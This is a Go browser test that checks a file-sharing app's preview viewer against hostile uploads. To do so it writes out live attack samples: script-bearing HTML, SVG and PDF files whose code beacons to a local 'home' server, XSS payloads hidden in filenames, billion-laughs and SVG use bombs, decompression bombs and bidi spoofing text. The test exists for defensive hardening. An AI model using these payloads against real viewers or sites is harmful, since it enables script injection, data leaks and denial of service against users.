package e2e

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sealpost/sealpost/wasm/e2e/webdriver"
)

// nasty is something that a hostile sender may have somebody look at, and what comes of it.
type nasty struct {
	thing
	state string // of the viewer; "" if nobody is offered to look
	says  string // matches what is said or read
	check string // script that is true of what is shown
}

// attack is what everything tries that might run: it leaves a mark on every window it reaches, and calls home.
func attack(home string) string {
	return fmt.Sprintf(`for(const w of [self,parent,top]){try{w.hacked=1}catch{}}try{fetch(%q)}catch{};new Image().src=%q;`, home+"/fetch", home+"/image")
}

// corpus is made for a home that hears of whoever is fooled.
func corpus(t *testing.T, home string) []nasty {
	t.Helper()
	script := attack(home)
	svg := func(inside string) []byte {
		return []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="` +
			strings.ReplaceAll(script, `"`, "'") + `"><rect width="200" height="100" fill="teal"/>` + inside + `</svg>`)
	}
	html := []byte(`<!doctype html><title>x</title><base href="` + home + `/"><meta http-equiv="refresh" content="0;url=` + home + `/refresh"><script>` + script +
		`</script><img src="` + home + `/img" onerror="` + strings.ReplaceAll(script, `"`, "'") + `"><iframe src="` + home + `/frame"></iframe><link rel="stylesheet" href="` + home + `/css">`)
	uses := `<path id="l0" d="M0 0h9v9z"/>`
	for i := range 12 {
		uses += fmt.Sprintf(`<g id="l%d">%s</g>`, i+1, strings.Repeat(fmt.Sprintf(`<use xlink:href="&#35;l%d"/>`, i), 10))
	}
	laughs := `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a0 "ha">`
	for i := range 12 {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	laughs += `<!ENTITY x SYSTEM "` + home + `/entity">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a12;&x;</text></svg>`
	launch := `(app.launchURL("` + home + `/launch", false); this.submitForm("` + home + `/submit"); this.getURL("` + home + `/get");)`
	actions := pdf(`/OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] >> /Names << /EmbeddedFiles << /Names [(a.html) 9 0 R] >> /JavaScript << /Names [(a) 7 0 R] >> >>`,
		"<< /S /URI /URI ("+home+"/open) /Next 7 0 R >>",
		"<< /S /JavaScript /JS "+launch+" >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 612 792] /A << /S /SubmitForm /F ("+home+"/form) >> /AA << /PO 6 0 R /PV 7 0 R >> >>",
		"<< /Type /Filespec /F (a.html) /EF << /F 10 0 R >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(html), html),
		"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /GoToR /F ("+home+"/gotor) /D [0 /Fit] >> >>")
	framed := []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00\x2c\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02\x44\x01\x00\x3b")
	dot := "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"
	inflated := deflated(t, 256<<20)
	const seen = `return stage.querySelector('img')?.naturalWidth>0`
	const framedPDF = `const f=stage.querySelector('iframe');return f.src.startsWith('blob:')&&!f.contentDocument?.scripts?.length`
	bidi := "if (admin\u202e \u2066// only\u2069 \u2066) {\u200b"
	return []nasty{
		{thing{"script.html", "image/png", html}, "shown", `^<!doctype html>.*<script>`, ""},
		{thing{"page.xhtml", "application/xhtml+xml", html}, "shown", `<script>`, ""},
		{thing{"drawing.svg", "image/svg+xml", svg(`<script>` + script + `</script><script href="` + home + `/script"/><style>@import url(` + home + `/import);@font-face{font-family:x;src:url(` + home +
			`/font)}</style><image href="` + home + `/image" onerror="` + strings.ReplaceAll(script, `"`, "'") + `" width="9" height="9"/><use href="` + home + `/use#a"/><a href="javascript:hacked=1"><text font-family="x" y="20">x</text></a>` +
			`<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="` + home + `/frame"/><body xmlns="http://www.w3.org/1999/xhtml" onload="hacked=1"><img src="` + home + `/html"/></body></foreignObject>` +
			`<animate attributeName="href" to="javascript:hacked=1" onbegin="hacked=1" begin="0s" dur="1s"/>`)}, "shown", "", seen},
		{thing{"use bomb.svg", "", svg(uses + `<use xlink:href="#l12"/>`)}, "error", "grow without end", ""},
		{thing{"entities.svg", "", []byte(laughs)}, "error", "grow without end", ""},
		{thing{"deep.svg", "", svg(strings.Repeat("<g>", 100_000))}, "error", "grow without end", ""},
		{thing{"page.svg", "image/svg+xml", html}, "error", "not what its name says", ""},
		{thing{"vast.svg", "", []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"><circle r="9e9"/></svg>`)}, "", "", ""},
		{thing{"true.png", "text/html", picture(t, 300, 200)}, "shown", "", `return stage.querySelector('img').naturalWidth===300`},
		{thing{"false.png", "image/png", html}, "error", "not what its name says", ""},
		{thing{"drawing.png", "image/png", svg("")}, "error", "not what its name says", ""},
		{thing{"claims.png", "image/png", claimedPNG(t, 60_000, 60_000, false)}, "error", `60,000 × 60,000`, ""},
		{thing{"claims.gif", "image/gif", framed}, "error", `65,535 × 65,535`, ""},
		{thing{"most.png", "image/png", claimedPNG(t, 8000, 8000, true)}, "shown", "", seen},
		{thing{"zipped text.png", "image/png", claimedPNG(t, 64, 64, true, pngChunk("zTXt", append([]byte("Comment\x00\x00"), inflated...)), pngChunk("iCCP", append([]byte("icc\x00\x00"), inflated...)))}, "", "", ""},
		{thing{"cut.png", "image/png", picture(t, 300, 200)[:200]}, "", "", ""},
		{thing{"nothing.jpg", "image/jpeg", []byte("\xff\xd8\xff")}, "error", "cannot be shown", ""},
		{thing{"empty.png", "image/png", nil}, "error", "not what its name says", ""},
		{thing{"script.gif", "text/javascript", append([]byte(dot), []byte("*/=1;"+script+"//<script>"+script+"</script>")...)}, "shown", "", seen},
		{thing{"actions.pdf", "application/pdf", actions}, "shown", "", framedPDF},
		{thing{"page.pdf", "text/html", append([]byte("%PDF-1.7\n"), html...)}, "shown", "", framedPDF},
		{thing{"late.pdf", "application/pdf", append(html, actions...)}, "error", "not what its name says", ""},
		{thing{"page.mp4", "video/mp4", html}, "error", "not what its name says", ""},
		{thing{"page.mp3", "audio/mpeg", html}, "error", "not what its name says", ""},
		{thing{"junk.webm", "video/webm", append([]byte("\x1a\x45\xdf\xa3"), bytes.Repeat([]byte{0xff}, 1<<20)...)}, "error", "cannot be shown", ""},
		{thing{"bomb.zip", "text/html", []byte("PK\x03\x04" + string(inflated[:4096]))}, "error", "not text", ""}, // its sender calls it text, which is harmless
		{thing{"bomb.gz", "application/gzip", []byte("\x1f\x8b\x08\x00" + string(inflated[:4096]))}, "none", "", ""},
		{thing{"zeros.txt", "text/plain", make([]byte, 4<<20)}, "error", "not text", ""},
		{thing{"line.json", "", bytes.Repeat([]byte("{"), 3<<20)}, "shown", `^{+$`, `return /first/.test(document.querySelector('[data-hook=viewer-remark]').textContent)`},
		{thing{"marks.txt", "", []byte("a" + strings.Repeat("\u0489\u0334", 100_000))}, "shown", "^a", ""},
		{thing{"bidi.js", "", []byte(bidi)}, "shown", `admin⟨U\+202E⟩ ⟨U\+2066⟩// only⟨U\+2069⟩`, ""},
		{thing{"latin.txt", "", []byte("Gr\xfc\xdfe")}, "shown", `Grüße`, ""},
		{thing{"wide.txt", "", []byte("\xff\xfeG\x00r\x00\xfc\x00\xdf\x00e\x00")}, "shown", `Grüße`, ""},
		{thing{"photo\u202egpj.txt", "", []byte("x")}, "shown", "^x$", ""},
		{thing{"a\n\r\t\u2028b.txt", "", []byte("x")}, "shown", "^x$", ""},
		{thing{strings.Repeat("W", 251) + ".txt", "", []byte("x")}, "shown", "^x$", ""},
		{thing{strings.Repeat("ä", 120) + "/" + strings.Repeat("long ", 50) + ".txt", "", []byte("x")}, "shown", "^x$", ""},
		{thing{`"><img src=x onerror=hacked=1>'.txt`, "", []byte("x")}, "shown", "^x$", ""},
		{thing{`<script>hacked=1<` + `!--{{x}}.txt`, "", []byte("x")}, "shown", "^x$", ""},
	}
}

// TestNasty: whatever a hostile sender has somebody look at stays in its box. No script runs, no request leaves but for the share, nothing
// breaks the layout, the tab lives on and its memory is bounded.
func TestNasty(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var calls []string
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		calls = append(calls, r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
	}))
	t.Cleanup(func() {
		home.Close()
		if len(calls) > 0 {
			t.Errorf("calls home: %q", calls)
		}
	})
	all := corpus(t, home.URL)
	var things []thing
	for _, n := range all {
		things = append(things, n.thing)
	}
	someEngine(t, func(t *testing.T, engine string) {
		s := newSite(t)
		s.tap.observe()
		strays := s.strays()
		b := launch(t, engine, webdriver.Options{})
		open(t, b, s.sealThings(t, 0, things...), "ready")
		must(t, b.WaitForElement("[data-hook=preview]", patience))
		base := total(b.Memory())
		peak := base
		for i, n := range all {
			if n.state == "none" {
				if has := look(t, b, n.name); has {
					t.Errorf("%s: %q is offered to be looked at", engine, n.name)
				}
				continue
			}
			if !look(t, b, n.name) {
				t.Errorf("%s: %q is not offered to be looked at", engine, n.name)
				continue
			}
			if n.state == "error" { // what plays is shown before it turns out not to
				b.WaitFor("return document.querySelector('[data-hook=viewer]').dataset.state==='error'", patience/2)
			}
			state, text := shown(t, b)
			if n.state != "" && state != n.state || !regexp.MustCompile(`(?s)`+n.says).MatchString(text) {
				t.Errorf("%s: %q is %s: %.200q, want %s: %s", engine, n.name, state, text, n.state, n.says)
			} else if n.check != "" && state == "shown" {
				if err := b.WaitFor("const stage=document.querySelector('[data-hook=viewer-body]');"+n.check, patience/4); err != nil {
					t.Errorf("%s: %q: %v", engine, n.name, err)
				}
			}
			if strings.HasSuffix(n.name, ".pdf") && state == "shown" {
				time.Sleep(3 * time.Second) // in which its actions would be done
			}
			if i%4 == 0 || n.says == "^x$" || n.name == "marks.txt" || n.name == "line.json" {
				for _, v := range []view{narrow, wide} {
					must(t, b.SetWindowSize(v.width, v.height))
					wantNoSidewaysScrolling(t, b, n.name+", "+v.name)
					wantInSight(t, b, n.name+", "+v.name)
				}
			}
			peak = max(peak, total(b.Memory()))
			v, err := b.Eval(`const w=[window,...[...document.querySelectorAll('iframe')].map(f=>f.contentWindow)];
				const is=w.map(w=>{try{return String(w.hacked)}catch{return 'undefined'}}).filter(s=>s!=='undefined').length;
				document.querySelector('[data-hook=viewer-close]').click();return is`)
			if err != nil || v != 0.0 {
				t.Fatalf("%s: %q ran: %v, %v", engine, n.name, v, err)
			}
		}
		t.Logf("%s: memory rose from %d to %d MiB at most", engine, base>>20, peak>>20)
		if most := int64(1200 << 20); peak-base > most {
			t.Errorf("%s: memory rose by %d MiB", engine, (peak-base)>>20)
		}
		wantState(t, b, patience, "ready")
		if found := strays(); len(found) > 0 {
			t.Errorf("%s: requests other than for the share: %q", engine, found)
		}
		wantQuietBut(t, b, `^error: loading (blob:|http:\S+/media/)`) // of pictures and films that are none
	})
}

// strays begins to note requests for anything else than a page, what it loads, and the API; it returns a function that lists them.
func (s *site) strays() func() []string {
	var mu sync.Mutex
	var found []string
	s.tap.set(func(tp *tap) {
		tp.delays = func(r *http.Request) {
			mu.Lock()
			defer mu.Unlock()
			if !regexp.MustCompile(`^/(b/|d/|api/v1/(config|shares)|favicon\.ico$)`).MatchString(r.URL.Path) {
				found = append(found, r.Method+" "+r.URL.Path)
			}
		}
	})
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(found)
	}
}

// look presses the button that shows an entry, if there is one. Where it is said what that costs, it is agreed to.
func look(t *testing.T, b *webdriver.Browser, name string) bool {
	t.Helper()
	v, err := b.Eval(`const row=[...document.querySelectorAll('[data-hook=entry]')].find(e=>e.dataset.name===a[0]);
		const button=row.querySelector('[data-hook=preview]');button?.click();
		document.querySelector('[data-hook=viewer][data-state=asking] [data-hook=viewer-take]')?.click();return !!button`, name)
	must(t, err)
	return v == true
}

// shown is the state that the viewer comes to, and what is read in it.
func shown(t *testing.T, b *webdriver.Browser) (state, text string) {
	t.Helper()
	const done = "const v=document.querySelector('[data-hook=viewer]');return v.open&&/shown|error/.test(v.dataset.state)"
	if err := b.WaitFor(done, patience); err != nil {
		text, _ := b.Text("main")
		t.Fatalf("%s: nothing is shown: %v\n%s", b.Engine, err, text)
	}
	v, err := b.Eval("const v=document.querySelector('[data-hook=viewer]');return [v.dataset.state,v.querySelector('[data-hook=viewer-body]').textContent]")
	must(t, err)
	told := v.([]any)
	return told[0].(string), told[1].(string)
}

// wantInSight wants all of the viewer's controls where they can be pressed.
func wantInSight(t *testing.T, b *webdriver.Browser, what string) {
	t.Helper()
	v, err := b.Eval(`const v=document.querySelector('[data-hook=viewer]'),out=r=>r.left<-1||r.top<-1||r.right>innerWidth+1||r.bottom>innerHeight+1;
		return [v,...v.querySelectorAll('button')].filter(e=>e.checkVisibility()&&out(e.getBoundingClientRect())).map(e=>e.cloneNode().outerHTML+JSON.stringify(e.getBoundingClientRect())).join(' ')`)
	must(t, err)
	if v != "" {
		t.Errorf("%s, %s: out of sight: %v", b.Engine, what, v)
	}
}
